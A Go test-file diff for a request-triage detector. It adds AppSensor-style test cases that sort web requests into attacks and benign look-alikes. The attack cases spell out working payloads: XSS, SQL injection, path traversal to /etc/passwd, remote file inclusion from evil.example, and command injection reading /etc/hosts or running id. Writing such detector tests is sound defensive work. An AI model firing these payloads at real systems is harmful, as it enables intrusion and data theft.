@@ -14,7 +14,7 @@ var t0 = time.Date(2026, 11, 3, 12, 0, 0, 0, time.UTC)
 // req builds an APM-like event.
 func req(t *testing.T, id string, at time.Duration, ip, method, original string, extra string) *triage.Event {
 	t.Helper()
-	doc := fmt.Sprintf(`{"@timestamp":%q,"event":{"id":%q},"source":{"ip":%q},"user_agent":{"original":"ua"},"http":{"request":{"method":%q}%s},"url":{"original":%q}}`,
+	doc := fmt.Sprintf(`{"@timestamp":%q,"event":{"id":%q},"source":{"ip":%q},"user_agent":{"original":"ua"},"http":{"request":{"method":%q%s}},"url":{"original":%q}}`,
 		t0.Add(at).Format(time.RFC3339Nano), id, ip, method, extra, original)
 	ev, err := triage.ParseEvent([]byte(doc), "test:1")
 	if err != nil {
@@ -76,6 +76,52 @@ func TestPointsSingleRequest(t *testing.T) {
 		{"appsensor:CIE4", "GET", "/search?q=a+b%2Bc", "", false, ""},
 		{"appsensor:CIE4", "GET", "/redirect?url=%250d%250a", "", false, ""},
 		{"appsensor:CIE4", "POST", "/contact", `,"body":{"original":"message=hi%0D%0Athere"}`, false, ""}, // multi-line form body is normal
+		// IE1
+		{"appsensor:IE1", "GET", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "", true, "XSS probe in query parameter q"},
+		{"appsensor:IE1", "GET", "/search?q=%22%3E%3Cimg+src%3Dx+onerror%3Dprompt(1)%3E", "", true, "XSS"},
+		{"appsensor:IE1", "GET", "/go?to=javascript:alert(document.domain)", "", true, "XSS"},
+		{"appsensor:IE1", "POST", "/review", `,"headers":{"Content-Type":["application/json"]},"body":{"original":"{\"text\":\"<svg/onload=alert(1)>\"}"}`, true, "JSON field text"},
+		{"appsensor:IE1", "GET", "/search?q=i+%3C3+tea", "", false, ""},
+		{"appsensor:IE1", "GET", "/search?q=O%27Reilly", "", false, ""},
+		{"appsensor:IE1", "GET", "/search?q=a+%3C+b+and+c+%3E+d", "", false, ""},
+		{"appsensor:IE1", "GET", "/search?q=one+online+store", "", false, ""},
+		{"appsensor:IE1", "GET", "/?utm_source=news&utm_medium=email&utm_campaign=black-friday&gclid=Cj0KCQiA", "", false, ""},
+		// CIE1
+		{"appsensor:CIE1", "GET", "/products?id=1%27+OR+%271%27%3D%271", "", true, "SQL injection in query parameter id"},
+		{"appsensor:CIE1", "GET", "/products?id=1+union+all+select+null,null--", "", true, "SQL injection"},
+		{"appsensor:CIE1", "POST", "/login", `,"headers":{"Content-Type":["application/x-www-form-urlencoded"]},"body":{"original":"username=admin%27--&password=[REDACTED]"}`, true, "form field username"},
+		{"appsensor:CIE1", "GET", "/search?q=O%27Reilly", "", false, ""},
+		{"appsensor:CIE1", "GET", "/search?q=union+station+select+drop", "", false, ""},
+		{"appsensor:CIE1", "GET", "/search?q=50%25+off", "", false, ""},
+		{"appsensor:CIE1", "GET", "/products/123?ref=home&sort=price-desc", "", false, ""},
+		// IE3
+		{"appsensor:IE3", "GET", "/download?file=../../../../etc/passwd", "", true, "path traversal in query parameter file"},
+		{"appsensor:IE3", "GET", "/static/..%2f..%2f..%2fetc/passwd", "", true, "path traversal in path"},
+		{"appsensor:IE3", "GET", "/page?inc=http://evil.example/shell.txt?", "", true, "remote file inclusion"},
+		{"appsensor:IE3", "GET", "/page?inc=php://filter/resource=index", "", true, "remote file inclusion"},
+		{"appsensor:IE3", "GET", "/ping?host=127.0.0.1%3Bcat+/etc/hosts", "", true, "in query parameter host"},
+		{"appsensor:IE3", "GET", "/ping?host=x%7C/usr/bin/id", "", true, "command injection"},
+		{"appsensor:IE3", "GET", "/go?next=https://shop.example/cart", "", false, ""},
+		{"appsensor:IE3", "GET", "/search?q=rock+%26+roll%3B+live", "", false, ""},
+		// RE8
+		{"appsensor:RE8", "GET", "/search?q=a%01b", "", true, "control character 0x01"},
+		{"appsensor:RE8", "GET", "/search?q=a%1bb", "", true, "0x1b"},
+		{"appsensor:RE8", "POST", "/contact", `,"body":{"original":"message=line1%0D%0Aline2%09tabbed"}`, false, ""},
+		{"appsensor:RE8", "GET", "/search?q=caf%C3%A9", "", false, ""},
+		{"appsensor:RE8", "GET", "/x?a=%00", "", false, ""}, // CIE3's
+		// EE1
+		{"appsensor:EE1", "GET", "/search?q=%253Cscript%253E", "", true, "double-encoded %253C"},
+		{"appsensor:EE1", "GET", "/x/%252e%252e/y", "", true, "in path"},
+		{"appsensor:EE1", "GET", "/search?q=50%25+off", "", false, ""},
+		{"appsensor:EE1", "GET", "/search?q=100%25", "", false, ""},
+		// EE2
+		{"appsensor:EE2", "GET", "/search?q=%u003cscript%u003e", "", true, "%u escape"},
+		{"appsensor:EE2", "GET", "/files/%c0%ae%c0%ae/etc", "", true, "overlong UTF-8"},
+		{"appsensor:EE2", "GET", "/search?q=%2BADw-script%2BAD4-", "", true, "UTF-7"},
+		{"appsensor:EE2", "GET", "/search?q=%E2%9C%93+done", "", false, ""},
+		// FIO1
+		{"appsensor:FIO1", "POST", "/upload", `,"headers":{"Content-Length":["52428800"]}`, true, "52428800-byte body"},
+		{"appsensor:FIO1", "POST", "/upload", `,"body":{"bytes":2048}`, false, ""},
 	}
 	for _, tt := range tests {
 		t.Run(tt.det+" "+tt.method+" "+tt.url, func(t *testing.T) {
@@ -189,9 +235,9 @@ func TestRequestPartsPrefersOriginal(t *testing.T) {
 	parts := requestParts(ev)
 	var got []string
 	for _, p := range parts {
-		got = append(got, p.Where+"="+p.Raw)
+		got = append(got, p.Label()+"="+p.Raw)
 	}
-	want := "path=/a%00.txt query name=x query value=1 query name=y query value="
+	want := "path=/a%00.txt query parameter name=x query parameter x=1 query parameter name=y query parameter y="
 	if strings.Join(got, " ") != want {
 		t.Errorf("parts = %q", strings.Join(got, " "))
 	}
